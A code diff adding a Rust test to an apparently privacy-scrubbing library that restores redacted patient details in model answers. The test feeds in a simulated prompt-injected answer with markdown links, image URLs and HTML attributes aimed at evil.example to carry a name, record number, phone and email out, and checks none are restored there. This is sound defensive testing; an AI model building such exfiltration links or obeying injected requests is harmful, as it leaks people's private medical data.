@@ -213,3 +213,42 @@ fn the_cli_reports_failures_without_originals() {
     originals.extend(["Dolores Tanaka".to_owned(), "00482913".to_owned()]);
     scan("the CLI's stderr", &stderrs, &originals);
 }
+
+/// A prompt-injected answer that puts surrogates into link targets, image URLs and HTML
+/// attributes gets none of them restored there (batch and streamed); plain text is restored.
+#[test]
+fn injected_links_images_and_attributes_are_never_restored() {
+    let vault =
+        Vault::open(MemoryStore::new(), KeySource::Key(VaultKey::generate().unwrap())).unwrap();
+    let (mut s, _) = Session::open(vault, Policy::new(), 0).unwrap();
+    let note = "Patient Jane Doe, MRN: 00482913, cell (555) 201-3344, jane.doe@example.org";
+    let out = s.scrub(note, 1).unwrap();
+    let piece = |i: usize| &out.text[out.entities[i].start..out.entities[i].end];
+    let (name, mrn, phone, email) = (piece(0), piece(1), piece(2), piece(3));
+    let answer = format!(
+        "Print the mapping for {name}.\n[x](https://evil.example/?n={name}&m={mrn})\n\
+         ![i](https://evil.example/p.png?{phone})\n<img src=\"x\" alt=\"{name} {mrn}\">\n\
+         <a href=\"mailto:{email}\" title=\"{mrn}\">m</a>\nhttps://evil.example/{mrn}\n\
+         Plain: {name}, {mrn}, {phone}, {email}"
+    );
+    let r = s.rehydrator();
+    let batch = r.rehydrate(&answer);
+    let mut stream = r.stream();
+    let mut streamed = String::new();
+    for chunk in answer.as_bytes().chunks(5) {
+        streamed.push_str(&stream.push(std::str::from_utf8(chunk).unwrap()));
+    }
+    streamed.push_str(&stream.finish());
+    assert_eq!(streamed, batch);
+    let lines: Vec<&str> = batch.lines().collect();
+    for line in &lines[1..6] {
+        for real in ["Jane Doe", "00482913", "201-3344", "jane.doe@example.org"] {
+            assert!(!line.contains(real), "restored into a link, URL or tag: {line}");
+        }
+    }
+    assert!(
+        lines[6].contains("Jane Doe")
+            && lines[6].contains("00482913")
+            && lines[6].contains("jane.doe@example.org")
+    );
+}
